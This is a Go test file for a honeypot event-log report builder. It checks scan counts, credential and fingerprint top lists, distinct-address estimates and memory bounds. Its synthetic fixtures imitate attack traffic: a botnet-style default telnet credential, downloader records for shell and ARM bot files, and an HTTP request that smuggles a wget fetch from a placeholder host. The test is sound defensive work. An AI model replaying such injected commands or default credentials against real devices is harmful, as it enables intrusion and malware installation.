package report

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

// genEventLog writes an event log of n SYNs spread over three hours (and
// one empty hour), with sessions carrying credentials and fingerprints,
// downloader events, two-phase events, a known scanner and a broken line.
func genEventLog(t testing.TB, dir string, n int, seed uint64) {
	rng := rand.New(rand.NewPCG(seed, 1))
	base := time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC)
	var buf bytes.Buffer
	line := func(m map[string]any) {
		b, _ := json.Marshal(m)
		buf.Write(b)
		buf.WriteByte('\n')
	}
	scanners := []string{"zmap", "masscan", "mirai", "nmap", "unknown"}
	for i := 0; i < n; i++ {
		h := []int{0, 1, 3}[rng.IntN(3)] // hour 2 stays empty
		ts := base.Add(time.Duration(h)*time.Hour + time.Duration(rng.IntN(3600))*time.Second)
		var src string
		switch rng.IntN(10) {
		case 0:
			src = fmt.Sprintf("2001:db8:%x::%x", rng.IntN(4), rng.IntN(50))
		case 1:
			src = "192.35.168." + fmt.Sprint(rng.IntN(4)) // censys, a known scanner
		default:
			src = fmt.Sprintf("203.0.%d.%d", rng.IntN(40), rng.IntN(256))
		}
		sc := scanners[rng.IntN(len(scanners))]
		line(map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "syn", "src_ip": src, "src_port": 40000,
			"dest_ip": "198.51.100.7", "dest_port": []int{22, 23, 80, 443, 8080}[rng.IntN(5)], "proto": "TCP",
			"tcp": map[string]any{"seq": 1}, "irregular": sc == "zmap" || rng.IntN(4) == 0, "scanner": sc})
		switch rng.IntN(8) {
		case 0:
			users := []string{"root", "admin", "guest\ttab"}
			line(map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "session", "src_ip": src, "src_port": 40001,
				"dest_ip": "198.51.100.7", "dest_port": 23, "app_proto": "telnet",
				"payload": base64.StdEncoding.EncodeToString([]byte("\xff\xfb\x01root\r\n")),
				"telnet":  map[string]any{"credentials": []map[string]string{{"username": users[rng.IntN(3)], "password": "xc3511"}}}})
		case 1:
			line(map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "session", "src_ip": src, "src_port": 40002,
				"dest_ip": "198.51.100.7", "dest_port": 443, "app_proto": "tls", "payload": base64.StdEncoding.EncodeToString([]byte{0x16, 3, 1, 0, 0xc8}),
				"tls": map[string]any{"ja4": fmt.Sprintf("t13d%02dh2_aaa_bbb", rng.IntN(3))}})
		case 2:
			line(map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "session", "src_ip": src, "src_port": 40003,
				"dest_ip": "198.51.100.7", "dest_port": 22, "app_proto": "ssh", "payload": base64.StdEncoding.EncodeToString([]byte("SSH-2.0-Go\r\n")),
				"ssh": map[string]any{"client": map[string]any{"hassh": map[string]any{"hash": fmt.Sprintf("%032x", rng.IntN(2))}}}})
		case 3:
			line(map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "downloader", "src_ip": src, "src_port": 40004,
				"dest_ip": "198.51.100.7", "dest_port": 80, "app_proto": "http", "tool": "wget",
				"server": fmt.Sprintf("192.0.2.%d", rng.IntN(3)), "name": []string{"x.sh", "bot.arm7", ""}[rng.IntN(3)]})
		case 4:
			delay := math.Round(rng.ExpFloat64()*60000*1000) / 1000
			two := map[string]any{"timestamp": ts.Format(time.RFC3339Nano), "event_type": "two_phase", "src_ip": src, "src_port": 40005,
				"dest_ip": "198.51.100.7", "dest_port": 80, "stage": "phase_two", "delay_ms": delay,
				"phase_one": map[string]any{"timestamp": ts.Add(-time.Duration(delay * 1e6)).Format(time.RFC3339Nano)}}
			line(two)
			switch rng.IntN(3) {
			case 0: // acked with a payload
				two["stage"] = "acked"
				two["session"] = map[string]any{"app_proto": "http", "payload": base64.StdEncoding.EncodeToString([]byte("GET /?x=wget+http://192.0.2.5/a HTTP/1.1\r\n\r\n"))}
				line(two)
			case 1: // acked without one
				two["stage"] = "acked"
				two["session"] = map[string]any{"app_proto": "generic", "payload": nil}
				line(two)
			}
		}
	}
	buf.WriteString("{not json\n")
	if err := os.WriteFile(filepath.Join(dir, "lab.events.20261125-10.jsonl"), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestEventLogReport(t *testing.T) {
	dir := t.TempDir()
	genEventLog(t, dir, 3000, 7)
	built, err := Build(context.Background(), Config{}, []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	r := jsonOf(t, built)

	c := newIndep()
	creds, ja4, hassh, hosts := map[string]int{}, map[string]int{}, map[string]int{}, map[string]int{}
	excluded, acked, ackedEmpty := 0, 0, 0
	lines := readJSONLines(t, dir)
	for _, m := range lines {
		ts, _ := time.Parse(time.RFC3339Nano, m["timestamp"].(string))
		src, _ := m["src_ip"].(string)
		known := strings.HasPrefix(src, "192.35.168.")
		switch m["event_type"] {
		case "syn":
			irr := m["irregular"].(bool)
			c.syn(ts, src, irr, m["scanner"].(string))
			cat := "rs"
			if irr {
				cat = "is"
			}
			if known {
				excluded++
			} else {
				c.ports[cat][int(num(m, "dest_port"))]++
			}
		case "session":
			c.sessions++
			if tn, ok := m["telnet"].(map[string]any); ok {
				for _, cr := range tn["credentials"].([]any) {
					cm := cr.(map[string]any)
					// The key's documented form: USER\tPASSWORD, each
					// Go-quoted if it holds a control byte.
					q := func(v any) string {
						s := v.(string)
						if strings.ContainsAny(s, "\t\r\n\x00") {
							return strconv.Quote(s)
						}
						return s
					}
					creds[q(cm["username"])+"\t"+q(cm["password"])]++
				}
			}
			if tl, ok := m["tls"].(map[string]any); ok {
				ja4[tl["ja4"].(string)]++
			}
			if s, ok := m["ssh"].(map[string]any); ok {
				hassh[s["client"].(map[string]any)["hassh"].(map[string]any)["hash"].(string)]++
			}
		case "downloader":
			hosts[m["server"].(string)]++
		case "two_phase":
			if m["stage"] == "phase_two" {
				c.twoPhase++
				c.delays = append(c.delays, num(m, "delay_ms")/1000)
				if !known {
					c.ports["tp"][80]++
				}
			} else {
				acked++
				if s := m["session"].(map[string]any); s["payload"] == nil {
					ackedEmpty++
				}
			}
		}
	}
	c.withoutAck = c.twoPhase - acked
	c.check(t, r)
	if r.Totals.ParseErrors != 1 {
		t.Errorf("parse errors = %d, want the 1 broken line", r.Totals.ParseErrors)
	}
	if got := r.Ports[0].ExcludedScanners + r.Ports[1].ExcludedScanners; got != excluded || r.Ports[0].ByScanner["censys"]+r.Ports[1].ByScanner["censys"] != excluded {
		t.Errorf("excluded scanners %d (%v %v), the lines hold %d censys SYNs", got, r.Ports[0].ByScanner, r.Ports[1].ByScanner, excluded)
	}
	if ct := r.TwoPhase.Contact; ct.WithoutPayload != ackedEmpty || ct.Downloader != acked-ackedEmpty {
		t.Errorf("contact %+v: want %d without payload, %d downloaders", ct, ackedEmpty, acked-ackedEmpty)
	}
	for _, tc := range []struct {
		name string
		l    TopList
		want map[string]int
	}{{"credentials", r.Credentials, creds}, {"ja4", r.JA4, ja4}, {"hassh", r.HASSH, hassh}, {"hosts", r.DownloaderHosts, hosts}} {
		if len(tc.l.Items) != len(tc.want) || tc.l.Evicted != 0 {
			t.Errorf("%s: %d items (%d evicted), the lines hold %d keys", tc.name, len(tc.l.Items), tc.l.Evicted, len(tc.want))
		}
		for _, it := range tc.l.Items {
			if it.Count != tc.want[it.Key] {
				t.Errorf("%s %q: %d, the lines hold %d", tc.name, it.Key, it.Count, tc.want[it.Key])
			}
		}
	}
	if len(r.Hours) != 4 || r.Hours[2].SYNs != 0 {
		t.Errorf("hours %+v: want 4, the third empty", r.Hours)
	}
	checkPage(t, built, r)
}

func TestTopKBounded(t *testing.T) {
	tk := newTopK(50)
	rng := rand.New(rand.NewPCG(1, 2))
	heavy := map[string]int{}
	for i := 0; i < 20000; i++ {
		k := fmt.Sprintf("noise-%d", rng.IntN(100000))
		if i%10 == 0 {
			k = fmt.Sprintf("heavy-%d", i%30/10)
			heavy[k]++
		}
		tk.add(k)
	}
	tk.add(strings.Repeat("x", 10000))
	l := tk.list(10)
	if l.Held > 50 || len(tk.m) > 50 || l.Total != 20001 || l.Evicted == 0 {
		t.Fatalf("held %d (map %d), total %d, evicted %d: want at most 50 held, 20001 seen, evictions counted", l.Held, len(tk.m), l.Total, l.Evicted)
	}
	for _, it := range tk.h {
		if len(it.key) > maxKeyBytes {
			t.Errorf("a key of %d bytes is held, want at most %d", len(it.key), maxKeyBytes)
		}
	}
	for i, it := range l.Items[:3] {
		want := heavy[it.Key]
		if !strings.HasPrefix(it.Key, "heavy-") || it.Count < want || it.Count-it.MaxOvercount > want {
			t.Errorf("item %d = %+v, want a heavy hitter with true count %d within its overcount", i, it, want)
		}
	}
}

func TestDistinct(t *testing.T) {
	for _, n := range []int{10, exactLimit, 5000, 200000} {
		var d distinct
		for i := 0; i < n; i++ {
			a := netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)})
			d.add(hashAddr(a))
			d.add(hashAddr(a)) // a repeat counts once
		}
		got := d.count()
		if n <= exactLimit && (got != n || d.Estimated()) {
			t.Errorf("n=%d: count %d (estimated %v), want exact", n, got, d.Estimated())
		}
		if n > exactLimit && (math.Abs(float64(got-n))/float64(n) > 0.06 || !d.Estimated() || len(d.regs) != 1<<hllBits) {
			t.Errorf("n=%d: estimate %d, want within 6%% (4 standard errors) from %d registers", n, got, 1<<hllBits)
		}
	}
}

// BenchmarkBuildMemory builds reports from event logs of growing size and
// prints the peak heap in use while building (sampled every 5 ms): the
// bounds keep it flat.
func BenchmarkBuildMemory(b *testing.B) {
	for _, n := range []int{20000, 200000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			dir := b.TempDir()
			genEventLog(b, dir, n, 3)
			for i := 0; i < b.N; i++ {
				runtime.GC()
				done := make(chan struct{})
				peak := make(chan uint64)
				go func() {
					var max uint64
					var ms runtime.MemStats
					for {
						runtime.ReadMemStats(&ms)
						max = maxU(max, ms.HeapInuse)
						select {
						case <-done:
							peak <- max
							return
						case <-time.After(5 * time.Millisecond):
						}
					}
				}()
				r, err := Build(context.Background(), Config{}, []string{dir})
				close(done)
				p := <-peak
				if err != nil {
					b.Fatal(err)
				}
				b.ReportMetric(float64(p)/(1<<20), "peak-heap-MiB")
				b.ReportMetric(float64(r.Totals.Lines), "lines")
			}
		})
	}
}

func maxU(a, b uint64) uint64 {
	if a > b {
		return a
	}
	return b
}

// BenchmarkWorstCaseMemory fills every bound at the defaults (MaxHours
// hours of 300 random sources each, every top list full of 128-byte keys,
// every port of every category) and prints the heap the builder holds.
func BenchmarkWorstCaseMemory(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runtime.GC()
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		cfg := Config{TopN: DefaultTopN, TopKeys: DefaultTopKeys, MaxHours: DefaultMaxHours}
		bl := newBuilder(cfg, &KnownScanners{})
		rng := rand.New(rand.NewPCG(9, 9))
		base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
		for h := 0; h < cfg.MaxHours+10; h++ {
			for s := 0; s < 300; s++ {
				a := netip.AddrFrom4([4]byte{byte(rng.IntN(224)), byte(rng.IntN(256)), byte(rng.IntN(256)), byte(rng.IntN(256))})
				bl.syn(base.Add(time.Duration(h)*time.Hour), a.String(), s%2 == 0, ScannerNames[s%5])
			}
		}
		for _, cat := range Categories {
			for p := 0; p < 65536; p++ {
				bl.ports[cat].add(p)
			}
		}
		key := make([]byte, maxKeyBytes)
		for _, l := range bl.lists {
			for k := 0; k < 2*cfg.TopKeys; k++ {
				for j := range key {
					key[j] = byte('a' + rng.IntN(26))
				}
				l.add(string(key))
			}
		}
		runtime.GC()
		runtime.ReadMemStats(&after)
		b.ReportMetric(float64(after.HeapInuse-before.HeapInuse)/(1<<20), "held-MiB")
		runtime.KeepAlive(bl)
	}
}

// TestCutCounted builds with tiny bounds and checks that what they cut is
// counted: SYNs of hours past MaxHours (in reading order) and top-list
// evictions.
func TestCutCounted(t *testing.T) {
	dir := t.TempDir()
	genEventLog(t, dir, 2000, 11)
	r, err := Build(context.Background(), Config{MaxHours: 2, TopKeys: 2, TopN: 2}, []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	r = jsonOf(t, r)
	held := map[int64]bool{}
	cut, syns := 0, 0
	for _, m := range readJSONLines(t, dir) {
		if m["event_type"] != "syn" {
			continue
		}
		syns++
		ts, _ := time.Parse(time.RFC3339Nano, m["timestamp"].(string))
		h := ts.Unix() / 3600
		if !held[h] && len(held) == 2 {
			cut++
			continue
		}
		held[h] = true
	}
	if r.Cut.HoursSYNs != cut || cut == 0 || len(r.Hours) != 2 || r.Totals.SYNs != syns {
		t.Errorf("cut %d SYNs, %d hours, %d SYNs in all; the lines: %d past 2 hours, %d SYNs", r.Cut.HoursSYNs, len(r.Hours), r.Totals.SYNs, cut, syns)
	}
	evicted := 0
	for _, l := range []TopList{r.PayloadPrefixes, r.TwoPhasePrefixes, r.DownloaderHosts, r.DownloaderFiles, r.Credentials, r.JA4, r.HASSH} {
		if l.Held > 2 || len(l.Items) > 2 {
			t.Errorf("a top list holds %d keys and shows %d, want at most 2", l.Held, len(l.Items))
		}
		evicted += l.Evicted
	}
	if r.JA4.Evicted == 0 || r.Cut.TopKeys != evicted {
		t.Errorf("ja4 evicted %d, cut.top_keys %d, sum of evictions %d: want evictions, counted", r.JA4.Evicted, r.Cut.TopKeys, evicted)
	}
}
